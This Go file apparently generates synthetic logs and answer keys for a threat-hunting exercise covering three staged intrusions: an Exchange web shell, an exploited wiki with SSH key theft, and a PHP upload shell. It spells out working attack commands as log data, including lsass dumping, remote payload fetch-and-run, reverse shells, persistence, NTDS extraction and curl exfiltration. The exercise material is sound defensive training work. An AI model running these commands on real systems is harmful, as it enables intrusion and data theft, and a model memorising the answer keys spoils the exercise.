package stranger

import (
	"fmt"
	"time"
)

func day(y int, m time.Month, d int) time.Time { return time.Date(y, m, d, 0, 0, 0, 0, time.UTC) }

func clock(d time.Time, hms string) time.Time {
	var h, m, s int
	fmt.Sscanf(hms, "%d:%d:%d", &h, &m, &s)
	return d.Add(time.Duration(h)*time.Hour + time.Duration(m)*time.Minute + time.Duration(s)*time.Second)
}

// 1: a ministry's mail server
func proxyshell(o *org) {
	d0 := day(2025, 9, 1)
	mail := o.machine("MBX-02.min-transport.gov.example", "172.20.4.12", "evtxdump", "MBX-02/%s.json")
	dc := o.machine("mtdc01.min-transport.gov.example", "172.20.4.5", "evtxdump", "mtdc01/%s.json")
	dc.sysmon = ""
	ws := o.machine("MT-PC-0331.min-transport.gov.example", "172.20.31.44", "evtxdump", "MT-PC-0331/%s.json")
	mail.live(d0, 21, `MINTRANS\mbxadmin`, "srv")
	dc.live(d0, 21, `MINTRANS\a.mora`, "dc")
	ws.live(d0, 21, `MINTRANS\c.vidal`, "ws")
	log := "MBX-02/W3SVC1/u_ex2509.log"
	o.head(log, iisHead)
	for d := 0; d < 21; d++ {
		for k := 0; k < 25; k++ {
			t := d0.AddDate(0, 0, d).Add(time.Duration(o.r.Intn(86000)) * time.Second)
			v := o.visitor()
			switch o.r.Intn(4) {
			case 0:
				o.iis(log, t, "", "172.20.4.12", "GET", "/owa/auth/logon.aspx", "url=https%3a%2f%2fmail.min-transport.gov.example%2fowa%2f&reason=0", "-", v, agents[o.r.Intn(3)], 200, 58000, 900)
			case 1:
				o.iis(log, t, "", "172.20.4.12", "POST", "/owa/auth.owa", "-", `MINTRANS\c.vidal`, v, agents[0], 302, 900, 1400)
			case 2:
				o.iis(log, t, "", "172.20.4.12", "POST", "/Microsoft-Server-ActiveSync/default.eas", "Cmd=Sync&User=c.vidal&DeviceId=APPL1", `MINTRANS\c.vidal`, v, "Apple-iPhone14C2/2005.47", 200, 1200, 700)
			case 3:
				o.iis(log, t, "", "172.20.4.12", "POST", "/autodiscover/autodiscover.xml", "-", `MINTRANS\c.vidal`, "172.20.31.44", "Microsoft Office/16.0", 200, 4200, 1100)
			}
		}
	}
	a := "193.36.119.84"
	b := d0.AddDate(0, 0, 13)
	// ssrf
	for k := 0; k < 5; k++ {
		o.iis(log, clock(b, "02:11:07").Add(time.Duration(k*4)*time.Second), "way-in/ssrf", "172.20.4.12", "POST", "/autodiscover/autodiscover.json", "@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp", "-", a, "python-requests/2.25.1", 200, 3300, 1900)
	}
	w := mail.root(`C:\Windows\System32\inetsrv\w3wp.exe`, sysUser)
	w.cmd = `c:\windows\system32\inetsrv\w3wp.exe -ap "MSExchangePowerShellFrontEndAppPool" -v "v4.0"`
	w.file(clock(b, "02:11:49"), "persistence/webshell", `C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\signout2.aspx`)
	ua := "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:57.0) Gecko/20100101 Firefox/57.0"
	sh := func(t time.Time, step string) {
		o.iis(log, t, step, "172.20.4.12", "POST", "/owa/auth/signout2.aspx", "-", "-", a, ua, 200, 700, 2200)
	}
	wo := mail.root(`C:\Windows\System32\inetsrv\w3wp.exe `, sysUser)
	wo.image = `C:\Windows\System32\inetsrv\w3wp.exe`
	wo.cmd = `c:\windows\system32\inetsrv\w3wp.exe -ap "MSExchangeOWAAppPool" -v "v4.0"`
	for i, c := range []string{"whoami /all", "ipconfig /all", "nltest /dclist:", `net group "Exchange Trusted Subsystem" /domain`, `tasklist /v`} {
		t := clock(b, "02:14:00").Add(time.Duration(i) * 38 * time.Second)
		sh(t, "way-in/shell-requests")
		x := wo.run(t.Add(500*time.Millisecond), "discovery/"+c, s32+"cmd.exe", `"cmd.exe" /c `+c+` 2>&1`)
		img := s32 + map[int]string{0: "whoami.exe", 1: "ipconfig.exe", 2: "nltest.exe", 3: "net.exe", 4: "tasklist.exe"}[i]
		x.run(t.Add(600*time.Millisecond), "discovery/"+c, img, c)
	}
	// lsass
	t := clock(b, "02:22:41")
	sh(t, "way-in/shell-requests")
	x := wo.run(t.Add(300*time.Millisecond), "credentials/minidump", s32+"cmd.exe", `"cmd.exe" /c powershell -c "rundll32 C:\windows\system32\comsvcs.dll, MiniDump (Get-Process lsass).Id C:\Windows\Temp\ex16.log full"`)
	ps := x.run(t.Add(600*time.Millisecond), "credentials/minidump", s32+`WindowsPowerShell\v1.0\powershell.exe`, `powershell  -c "rundll32 C:\windows\system32\comsvcs.dll, MiniDump (Get-Process lsass).Id C:\Windows\Temp\ex16.log full"`)
	rd := ps.run(t.Add(1200*time.Millisecond), "credentials/minidump", s32+"rundll32.exe", `"C:\Windows\system32\rundll32.exe" C:\windows\system32\comsvcs.dll MiniDump 712 C:\Windows\Temp\ex16.log full`)
	rd.access(t.Add(1300*time.Millisecond), "credentials/minidump", mail.root(s32+"lsass.exe", sysUser), "0x1fffff")
	rd.file(t.Add(1500*time.Millisecond), "credentials/minidump", `C:\Windows\Temp\ex16.log`)
	// implant
	t = clock(b, "02:31:05")
	sh(t, "way-in/shell-requests")
	x = wo.run(t.Add(200*time.Millisecond), "execution/fetch", s32+"cmd.exe", `"cmd.exe" /c certutil -urlcache -split -f http://45.86.163.77/st.cab C:\ProgramData\Comms\st.cab`)
	cu := x.run(t.Add(400*time.Millisecond), "execution/fetch", s32+"certutil.exe", `certutil  -urlcache -split -f http://45.86.163.77/st.cab C:\ProgramData\Comms\st.cab`)
	cu.net(t.Add(900*time.Millisecond), "execution/fetch", "45.86.163.77", 80, "-")
	cu.file(t.Add(1100*time.Millisecond), "execution/fetch", `C:\ProgramData\Comms\st.cab`)
	t = t.Add(70 * time.Second)
	sh(t, "way-in/shell-requests")
	x = wo.run(t, "execution/expand", s32+"cmd.exe", `"cmd.exe" /c expand C:\ProgramData\Comms\st.cab -F:* C:\ProgramData\Comms\`)
	e := x.run(t.Add(150*time.Millisecond), "execution/expand", s32+"expand.exe", `expand  C:\ProgramData\Comms\st.cab -F:* C:\ProgramData\Comms\`)
	e.file(t.Add(400*time.Millisecond), "execution/expand", `C:\ProgramData\Comms\tmntsrv.exe`)
	e.file(t.Add(450*time.Millisecond), "execution/expand", `C:\ProgramData\Comms\tmdbglog.dll`)
	t = t.Add(55 * time.Second)
	sh(t, "way-in/shell-requests")
	x = wo.run(t, "persistence/task", s32+"cmd.exe", `"cmd.exe" /c schtasks /create /ru system /sc onstart /tn "Microsoft\Windows\Comms\SyncLog" /tr C:\ProgramData\Comms\tmntsrv.exe /f`)
	x.run(t.Add(200*time.Millisecond), "persistence/task", s32+"schtasks.exe", `schtasks  /create /ru system /sc onstart /tn "Microsoft\Windows\Comms\SyncLog" /tr C:\ProgramData\Comms\tmntsrv.exe /f`)
	mail.task(t.Add(350*time.Millisecond), "persistence/task", `MINTRANS\MBX-02$`, "0x3e7", `\Microsoft\Windows\Comms\SyncLog`, `C:\ProgramData\Comms\tmntsrv.exe`, "")
	t = t.Add(20 * time.Second)
	sh(t, "way-in/shell-requests")
	x = wo.run(t, "persistence/task", s32+"cmd.exe", `"cmd.exe" /c schtasks /run /tn "Microsoft\Windows\Comms\SyncLog"`)
	x.run(t.Add(100*time.Millisecond), "persistence/task", s32+"schtasks.exe", `schtasks  /run /tn "Microsoft\Windows\Comms\SyncLog"`)
	imp := mail.root(s32+"svchost.exe", sysUser).run(t.Add(600*time.Millisecond), "execution/implant", `C:\ProgramData\Comms\tmntsrv.exe`, `C:\ProgramData\Comms\tmntsrv.exe`)
	imp.load(t.Add(700*time.Millisecond), "execution/sideload", `C:\ProgramData\Comms\tmdbglog.dll`, false)
	for k := 0; k < 90; k++ {
		bt := t.Add(time.Minute + time.Duration(k)*47*time.Minute + time.Duration(o.r.Intn(400))*time.Second)
		if k%6 == 0 {
			imp.dns(bt, "c2/beacon", "telemetry.vmupdate-svc.com", "103.27.109.217")
		}
		imp.net(bt.Add(time.Second), "c2/beacon", "103.27.109.217", 443, "-")
	}
	// hands on, next night: lateral to DC
	b2 := b.AddDate(0, 0, 1)
	t = clock(b2, "01:40:10")
	x = imp.run(t, "lateral/dc", s32+"cmd.exe", `cmd.exe /c net use \\172.20.4.5\c$ /user:MINTRANS\svc-mbxsync Aa!92kkd`)
	x.run(t.Add(200*time.Millisecond), "lateral/dc", s32+"net.exe", `net  use \\172.20.4.5\c$ /user:MINTRANS\svc-mbxsync Aa!92kkd`)
	lid := dc.logon(t.Add(900*time.Millisecond), "lateral/dc", 3, `MINTRANS\svc-mbxsync`, "172.20.4.12", "MBX-02!")
	dc.security(t.Add(901*time.Millisecond), "lateral/dc", 4672, kv("SubjectUserName", "svc-mbxsync", "SubjectDomainName", "MINTRANS", "SubjectLogonId", lid, "PrivilegeList", "SeDebugPrivilege"))
	dc.security(t.Add(3*time.Second), "lateral/dc-share", 5145, kv("SubjectUserName", "svc-mbxsync", "SubjectDomainName", "MINTRANS", "SubjectLogonId", lid, "IpAddress", "172.20.4.12", "IpPort", "50122", "ShareName", `\\*\C$`, "RelativeTargetName", `Windows\Temp\v.bat`, "AccessMask", "0x2"))
	t = t.Add(50 * time.Second)
	imp.run(t, "lateral/wmic", s32+`wbem\WMIC.exe`, `wmic /node:172.20.4.5 /user:MINTRANS\svc-mbxsync /password:Aa!92kkd process call create "cmd /c C:\Windows\Temp\v.bat"`)
	lid = dc.logon(t.Add(700*time.Millisecond), "lateral/wmic", 3, `MINTRANS\svc-mbxsync`, "172.20.4.12", "MBX-02!")
	wp := dc.root(s32+`wbem\WmiPrvSE.exe`, sysUser)
	y := wp.runAs(t.Add(1200*time.Millisecond), "lateral/wmi-child", s32+"cmd.exe", `cmd /c C:\Windows\Temp\v.bat`, `MINTRANS\svc-mbxsync`, lid)
	y.run(t.Add(1500*time.Millisecond), "credentials/ntds", s32+"ntdsutil.exe", `ntdsutil "ac i ntds" ifm "create full C:\Windows\Temp\tmp9" q q`)
	// collection on mail
	t = clock(b2, "02:20:00")
	x = imp.run(t, "collection/archive", s32+"cmd.exe", `cmd.exe /c C:\ProgramData\Comms\r.exe a -m5 -v500m -hpK2s8 C:\ProgramData\Comms\Logs\01.dat D:\pst\*`)
	rr := x.run(t.Add(200*time.Millisecond), "collection/archive", `C:\ProgramData\Comms\r.exe`, `C:\ProgramData\Comms\r.exe  a -m5 -v500m -hpK2s8 C:\ProgramData\Comms\Logs\01.dat D:\pst\*`)
	rr.file(t.Add(20*time.Second), "collection/archive", `C:\ProgramData\Comms\Logs\01.dat`)
	t = t.Add(10 * time.Minute)
	x = imp.run(t, "exfil/to-web", s32+"cmd.exe", `cmd.exe /c move C:\ProgramData\Comms\Logs\01.dat "C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\Current\themes\bg01.png"`)
	x.file(t.Add(2*time.Second), "exfil/to-web", `C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\Current\themes\bg01.png`)
	o.iis(log, t.Add(4*time.Minute), "exfil/download", "172.20.4.12", "GET", "/owa/auth/Current/themes/bg01.png", "-", "-", "91.245.253.20", ua, 200, 483221904, 420)
	o.starts = map[string]string{"first-alert": "@discovery/whoami /all", "c2": "telemetry.vmupdate-svc.com", "mid": "@lateral/wmi-child", "exfil": "@exfil/download", "findings": ""}
	o.want.Implant = []string{"tmntsrv.exe"}
	o.want.C2 = []string{"telemetry.vmupdate-svc.com", "103.27.109.217", "45.86.163.77"}
	o.want.Staged = []string{"01.dat"}
	o.want.WayIn = []string{"way-in/ssrf", "way-in/shell-requests"}
}

// 6: Linux, an exploited wiki, SSH keys
func sshKeys(o *org) {
	d0 := day(2025, 12, 1)
	ng := "wiki01/nginx/access.log"
	au := "wiki01/audit/audit.log"
	au2 := "resdb1/audit.log"
	sec, sec2 := "wiki01/secure", "resdb1/auth.log"
	for d := 0; d < 20; d++ {
		at := func() time.Time { return d0.AddDate(0, 0, d).Add(time.Duration(o.r.Intn(86000)) * time.Second) }
		for k := 0; k < 30; k++ {
			o.apache(ng, at(), "", o.visitor(), "GET", []string{"/", "/display/OPS/Home", "/login.action", "/s/d41d8cd9/_/styles.css", "/rest/api/content"}[o.r.Intn(5)], 200, 4000+o.r.Intn(30000), agents[o.r.Intn(3)])
		}
		for k := 0; k < 6; k++ {
			t := at()
			p := 3000 + o.r.Intn(20000)
			o.audit(au, t, "", "", p, 1, "0", "run-parts", "/usr/bin/run-parts", "run-parts", "/etc/cron.hourly")
			o.audit(au2, t.Add(3*time.Minute), "", "", p+9, 1, "0", "logrotate", "/usr/sbin/logrotate", "/usr/sbin/logrotate", "/etc/logrotate.conf")
			o.syslog(sec2, t, "", "resdb1", fmt.Sprintf("CRON[%d]", p), "pam_unix(cron:session): session opened for user postgres(uid=26) by (uid=0)")
		}
		t := clock(d0.AddDate(0, 0, d), "08:10:00").Add(time.Duration(o.r.Intn(3000)) * time.Second)
		for i, h := range []string{"wiki01", "resdb1"} {
			f := []string{sec, sec2}[i]
			p := 2000 + o.r.Intn(9000)
			o.syslog(f, t, "", h, fmt.Sprintf("sshd[%d]", p), "Accepted publickey for marek from 10.33.1.15 port 51822 ssh2: ED25519 SHA256:Q5nTqvJ0m0k7w9n2Jc1cT0c2hYyA1R8v3sUeWf0aXzE")
			o.syslog(f, t, "", h, fmt.Sprintf("sshd[%d]", p), "pam_unix(sshd:session): session opened for user marek(uid=1001) by (uid=0)")
			o.syslog(f, t.Add(9*time.Minute), "", h, "sudo", "   marek : TTY=pts/0 ; PWD=/home/marek ; USER=root ; COMMAND=/usr/bin/dnf check-update")
			f2 := []string{au, au2}[i]
			o.audit(f2, t.Add(9*time.Minute), "", "", p+90, p+80, "0", "dnf", "/usr/bin/python3.9", "/usr/bin/dnf", "check-update")
		}
		o.audit(au2, clock(d0.AddDate(0, 0, d), "01:30:00"), "", "", 9000+d*7, 900, "26", "pg_dump", "/usr/bin/pg_dump", "pg_dump", "-Fc", "-f", "/backup/res-nightly.dump", "reservations")
	}
	z := o.zeek("ids", true)
	z.live(d0, 20, "10.33.4.8", "10.33.6.2", "10.33.9.50", "10.33.9.51")
	b := d0.AddDate(0, 0, 11)
	a := "146.70.87.33"
	t := clock(b, "03:11:09")
	o.apache(ng, t, "way-in/probe", a, "GET", "/pages/doenterpagevariables.action", 200, 2100, "curl/7.88.1")
	o.apache(ng, t.Add(6*time.Second), "way-in/exploit", a, "POST", "/pages/doenterpagevariables.action", 200, 812, "curl/7.88.1")
	o.audit(au, t.Add(6400*time.Millisecond), "execution/sh", "", 21001, 1402, "993", "sh", "/usr/bin/bash", "/bin/sh", "-c", "id;uname -a")
	o.audit(au, t.Add(6450*time.Millisecond), "discovery/id", "", 21002, 21001, "993", "id", "/usr/bin/id", "id")
	o.audit(au, t.Add(6470*time.Millisecond), "discovery/uname", "", 21003, 21001, "993", "uname", "/usr/bin/uname", "uname", "-a")
	t = t.Add(40 * time.Second)
	o.apache(ng, t, "way-in/exploit", a, "POST", "/pages/doenterpagevariables.action", 200, 812, "curl/7.88.1")
	o.audit(au, t.Add(400*time.Millisecond), "execution/fetch", "", 21010, 1402, "993", "sh", "/usr/bin/bash", "/bin/sh", "-c", "curl -so /var/tmp/.xfsd http://146.70.87.33:8443/l && chmod +x /var/tmp/.xfsd && /var/tmp/.xfsd &")
	o.audit(au, t.Add(450*time.Millisecond), "execution/fetch", "", 21011, 21010, "993", "curl", "/usr/bin/curl", "curl", "-so", "/var/tmp/.xfsd", "http://146.70.87.33:8443/l")
	o.auditOpen(au, t.Add(900*time.Millisecond), "execution/fetch", "", 21011, 21010, "993", "curl", "/usr/bin/curl", "/var/tmp/.xfsd")
	z.conn(t.Add(500*time.Millisecond), "execution/fetch", "10.33.4.8", a, 8443, "http", 2, 140, 880133)
	o.audit(au, t.Add(2*time.Second), "execution/fetch", "", 21012, 21010, "993", "chmod", "/usr/bin/chmod", "chmod", "+x", "/var/tmp/.xfsd")
	o.audit(au, t.Add(2100*time.Millisecond), "execution/implant", "", 21013, 21010, "993", ".xfsd", "/var/tmp/.xfsd", "/var/tmp/.xfsd")
	o.auditConnect(au, t.Add(3*time.Second), "c2/connect", "", 21013, 21010, "993", ".xfsd", "/var/tmp/.xfsd", "91.219.236.18", 443)
	for k := 0; k < 120; k++ {
		z.https(t.Add(3*time.Second+time.Duration(k)*15*time.Minute+time.Duration(o.r.Intn(60))*time.Second), "c2/beacon", "10.33.4.8", "91.219.236.18", "repo.el9-mirror.net", 0.6, 380+o.r.Intn(20), 200)
	}
	z.dns(t.Add(2800*time.Millisecond), "c2/beacon", "10.33.4.8", "repo.el9-mirror.net", "A", "91.219.236.18")
	t = t.Add(9 * time.Minute)
	sh := func(t time.Time, step string, pid, ppid int, uid, comm, exe string, args ...string) {
		o.audit(au, t, step, "", pid, ppid, uid, comm, exe, args...)
	}
	sh(t, "discovery/find", 21100, 21013, "993", "sh", "/usr/bin/bash", "sh", "-c", "find / -name id_rsa 2>/dev/null; cat /opt/deploy/.ssh/id_rsa")
	sh(t.Add(100*time.Millisecond), "discovery/find", 21101, 21100, "993", "find", "/usr/bin/find", "find", "/", "-name", "id_rsa")
	sh(t.Add(20*time.Second), "credentials/key", 21102, 21100, "993", "cat", "/usr/bin/cat", "cat", "/opt/deploy/.ssh/id_rsa")
	sh(t.Add(60*time.Second), "persistence/cron", 21110, 21013, "993", "sh", "/usr/bin/bash", "sh", "-c", "(crontab -l; echo '*/30 * * * * /var/tmp/.xfsd') | crontab -")
	sh(t.Add(60200*time.Millisecond), "persistence/cron", 21112, 21110, "993", "crontab", "/usr/bin/crontab", "crontab", "-")
	o.auditOpen(au, t.Add(60300*time.Millisecond), "persistence/cron", "", 21112, 21110, "0", "crontab", "/usr/bin/crontab", "/var/spool/cron/confluence")
	t = t.Add(5 * time.Minute)
	sh(t, "lateral/ssh", 21120, 21013, "993", "ssh", "/usr/bin/ssh", "ssh", "-i", "/var/tmp/.k", "-o", "StrictHostKeyChecking=no", "deploy@10.33.6.2")
	o.syslog(sec2, t.Add(time.Second), "lateral/ssh", "resdb1", "sshd[30122]", "Accepted publickey for deploy from 10.33.4.8 port 44120 ssh2: RSA SHA256:h7s8dK3kLq0rXb2v9wQmTn4yPz6cVu1eJf5gAo8iBdE")
	o.syslog(sec2, t.Add(1100*time.Millisecond), "lateral/ssh", "resdb1", "sshd[30122]", "pam_unix(sshd:session): session opened for user deploy(uid=1010) by (uid=0)")
	o.port = 44120
	z.conn(t, "lateral/ssh", "10.33.4.8", "10.33.6.2", 22, "ssh", 4100, 90211, 60112)
	r2 := func(t time.Time, step string, pid, ppid int, uid, comm, exe string, args ...string) {
		o.audit(au2, t, step, "", pid, ppid, uid, comm, exe, args...)
	}
	o.session = "41"
	defer func() { o.session = "" }()
	r2(t.Add(2*time.Second), "lateral/shell", 30130, 30122, "1010", "bash", "/usr/bin/bash", "-bash")
	r2(t.Add(20*time.Second), "discovery/w", 30131, 30130, "1010", "w", "/usr/bin/w", "w")
	r2(t.Add(30*time.Second), "discovery/psql", 30132, 30130, "1010", "psql", "/usr/bin/psql", "psql", "-l")
	o.syslog(sec2, t.Add(50*time.Second), "privilege/sudo", "resdb1", "sudo", "  deploy : TTY=pts/2 ; PWD=/home/deploy ; USER=postgres ; COMMAND=/usr/bin/pg_dump -Fc -f /dev/shm/.r reservations")
	r2(t.Add(50*time.Second), "collection/dump", 30140, 30130, "0", "sudo", "/usr/bin/sudo", "sudo", "-u", "postgres", "pg_dump", "-Fc", "-f", "/dev/shm/.r", "reservations")
	r2(t.Add(51*time.Second), "collection/dump", 30141, 30140, "26", "pg_dump", "/usr/bin/pg_dump", "pg_dump", "-Fc", "-f", "/dev/shm/.r", "reservations")
	o.auditOpen(au2, t.Add(52*time.Second), "collection/dump", "", 30141, 30140, "26", "pg_dump", "/usr/bin/pg_dump", "/dev/shm/.r")
	r2(t.Add(10*time.Minute), "collection/tar", 30150, 30130, "1010", "tar", "/usr/bin/tar", "tar", "czf", "/dev/shm/.r.tgz", "/dev/shm/.r")
	o.auditOpen(au2, t.Add(10*time.Minute+time.Second), "collection/tar", "", 30150, 30130, "1010", "tar", "/usr/bin/tar", "/dev/shm/.r.tgz")
	r2(t.Add(14*time.Minute), "exfil/curl", 30160, 30130, "1010", "curl", "/usr/bin/curl", "curl", "-sk", "-T", "/dev/shm/.r.tgz", "https://194.87.148.40/up")
	o.auditConnect(au2, t.Add(14*time.Minute+200*time.Millisecond), "exfil/curl", "", 30160, 30130, "1010", "curl", "/usr/bin/curl", "194.87.148.40", 443)
	z.https(t.Add(14*time.Minute+300*time.Millisecond), "exfil/curl", "10.33.6.2", "194.87.148.40", "-", 900, 1433211900, 80211)
	r2(t.Add(32*time.Minute), "evasion/rm", 30170, 30130, "1010", "rm", "/usr/bin/rm", "rm", "-f", "/dev/shm/.r", "/dev/shm/.r.tgz")
	o.syslog(sec2, t.Add(33*time.Minute), "~logoff", "resdb1", "sshd[30122]", "pam_unix(sshd:session): session closed for user deploy")
	o.starts = map[string]string{"first-alert": "@execution/fetch", "c2": "91.219.236.18", "mid": "@lateral/ssh", "exfil": "194.87.148.40", "findings": ""}
	o.want.Implant = []string{".xfsd"}
	o.want.C2 = []string{"91.219.236.18", "repo.el9-mirror.net", "146.70.87.33"}
	o.want.Staged = []string{".r.tgz"}
	o.want.WayIn = []string{"way-in/exploit"}
}

// 11: a booking site's PHP upload, Apache and auditd
func phpShell(o *org) {
	d0 := day(2026, 6, 1)
	ac, au, sy := "book-web2/apache2/access.log", "book-web2/audit/audit.log", "book-web2/auth.log"
	n := "book-web2"
	for d := 0; d < 20; d++ {
		for k := 0; k < 60; k++ {
			t := d0.AddDate(0, 0, d).Add(time.Duration(o.r.Intn(86000)) * time.Second)
			o.apache(ac, t, "", o.visitor(), []string{"GET", "GET", "POST"}[o.r.Intn(3)], []string{"/", "/book.php?from=LIS&to=OPO", "/checkin.php", "/assets/app.js", "/upload.php", "/img/plane.jpg"}[o.r.Intn(6)], 200, 1000+o.r.Intn(60000), agents[o.r.Intn(3)])
		}
		for k := 0; k < 8; k++ {
			t := d0.AddDate(0, 0, d).Add(time.Duration(k*10800) * time.Second)
			o.audit(au, t, "", n, 5000+d*50+k, 1, "0", "sh", "/usr/bin/dash", "/bin/sh", "-c", "cd / && run-parts --report /etc/cron.hourly")
			o.syslog(sy, t, "", n, fmt.Sprintf("CRON[%d]", 5000+d*50+k), "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
		}
		// the site itself resizes pictures
		t := d0.AddDate(0, 0, d).Add(time.Duration(40000+o.r.Intn(9000)) * time.Second)
		o.audit(au, t, "", n, 7000+d, 811, "33", "convert", "/usr/bin/convert-im6.q16", "convert", "/var/www/up/p.jpg", "-resize", "200", "/var/www/up/t.jpg")
	}
	b := d0.AddDate(0, 0, 13)
	a := "37.120.222.241"
	ua := "Mozilla/5.0 (Windows NT 10.0; rv:102.0) Gecko/20100101 Firefox/102.0"
	t := clock(b, "16:21:03")
	o.apache(ac, t, "way-in/probe", a, "GET", "/upload.php", 200, 1400, ua)
	o.apache(ac, t.Add(30*time.Second), "way-in/upload", a, "POST", "/upload.php", 200, 220, ua)
	o.auditOpen(au, t.Add(30200*time.Millisecond), "persistence/webshell", n, 811, 800, "33", "apache2", "/usr/sbin/apache2", "/var/www/html/up/thumb_7731.phtml")
	pid := 31000
	web := func(t time.Time, step, c string, args ...string) int {
		o.apache(ac, t, "way-in/shell-requests", a, "POST", "/up/thumb_7731.phtml", 200, 300+o.r.Intn(900), ua)
		pid += 3
		p := pid
		o.audit(au, t.Add(80*time.Millisecond), step, n, p, 811, "33", "sh", "/usr/bin/dash", "sh", "-c", c)
		if len(args) > 0 {
			o.audit(au, t.Add(90*time.Millisecond), step, n, p+1, p, "33", args[0], "/usr/bin/"+args[0], args...)
		}
		return p + 1
	}
	t = t.Add(time.Minute)
	web(t, "discovery/id", "id", "id")
	web(t.Add(15*time.Second), "discovery/passwd", "cat /etc/passwd", "cat", "/etc/passwd")
	web(t.Add(45*time.Second), "credentials/config", "cat /var/www/html/inc/db.php", "cat", "/var/www/html/inc/db.php")
	web(t.Add(95*time.Second), "discovery/ps", "ps aux", "ps", "aux")
	p := web(t.Add(4*time.Minute), "execution/fetch", "wget -q http://37.120.222.241:81/p.pl -O /tmp/.ICE-x", "wget", "-q", "http://37.120.222.241:81/p.pl", "-O", "/tmp/.ICE-x")
	o.auditConnect(au, t.Add(4*time.Minute+200*time.Millisecond), "execution/fetch", n, p, p-1, "33", "wget", "/usr/bin/wget", a, 81)
	o.auditOpen(au, t.Add(4*time.Minute+300*time.Millisecond), "execution/fetch", n, p, p-1, "33", "wget", "/usr/bin/wget", "/tmp/.ICE-x")
	p = web(t.Add(5*time.Minute), "execution/implant", "perl /tmp/.ICE-x 37.120.222.241 443", "perl", "/tmp/.ICE-x", "37.120.222.241", "443")
	o.auditConnect(au, t.Add(5*time.Minute+200*time.Millisecond), "c2/connect", n, p, p-1, "33", "perl", "/usr/bin/perl", a, 443)
	t = t.Add(12 * time.Minute)
	o.audit(au, t, "execution/pty", n, 31200, p, "33", "sh", "/usr/bin/dash", "/bin/sh", "-i")
	o.audit(au, t.Add(30*time.Second), "privilege/pkexec", n, 31210, 31200, "33", "pkexec", "/usr/bin/pkexec", "/usr/bin/pkexec")
	o.audit(au, t.Add(31*time.Second), "privilege/root", n, 31211, 31210, "0", "sh", "/usr/bin/dash", "/bin/sh")
	o.audit(au, t.Add(90*time.Second), "persistence/user", n, 31220, 31211, "0", "useradd", "/usr/sbin/useradd", "useradd", "-o", "-u", "0", "-g", "0", "sysupd")
	o.syslog(sy, t.Add(90*time.Second), "persistence/user", n, "useradd[31220]", "new user: name=sysupd, UID=0, GID=0, home=/home/sysupd, shell=/bin/bash, from=none")
	o.audit(au, t.Add(4*time.Minute), "collection/dump", n, 31230, 31211, "0", "mysqldump", "/usr/bin/mysqldump", "mysqldump", "-h", "10.7.7.3", "-u", "book", "-pR3s3rv!", "booking", "passengers", "-r", "/var/www/html/up/b.sql")
	o.auditOpen(au, t.Add(4*time.Minute+time.Second), "collection/dump", n, 31230, 31211, "0", "mysqldump", "/usr/bin/mysqldump", "/var/www/html/up/b.sql")
	o.audit(au, t.Add(14*time.Minute), "collection/gzip", n, 31240, 31211, "0", "gzip", "/usr/bin/gzip", "gzip", "/var/www/html/up/b.sql")
	o.auditOpen(au, t.Add(14*time.Minute+time.Second), "collection/gzip", n, 31240, 31211, "0", "gzip", "/usr/bin/gzip", "/var/www/html/up/b.sql.gz")
	o.apache(ac, t.Add(20*time.Minute), "exfil/download", a, "GET", "/up/b.sql.gz", 200, 318220331, ua)
	o.audit(au, t.Add(30*time.Minute), "evasion/rm", n, 31250, 31211, "0", "rm", "/usr/bin/rm", "rm", "-f", "/var/www/html/up/b.sql.gz", "/tmp/.ICE-x")
	// second visit by the account
	t2 := clock(b.AddDate(0, 0, 1), "02:02:02")
	o.syslog(sy, t2, "persistence/use", n, "sshd[4412]", "Accepted password for sysupd from 37.120.222.241 port 40112 ssh2")
	o.starts = map[string]string{"first-alert": "@execution/fetch", "c2": a, "mid": "@persistence/user", "exfil": "@exfil/download", "findings": ""}
	o.want.Implant = []string{".ICE-x"}
	o.want.C2 = []string{a}
	o.want.Staged = []string{"b.sql.gz"}
	o.want.WayIn = []string{"way-in/upload", "way-in/shell-requests"}
}
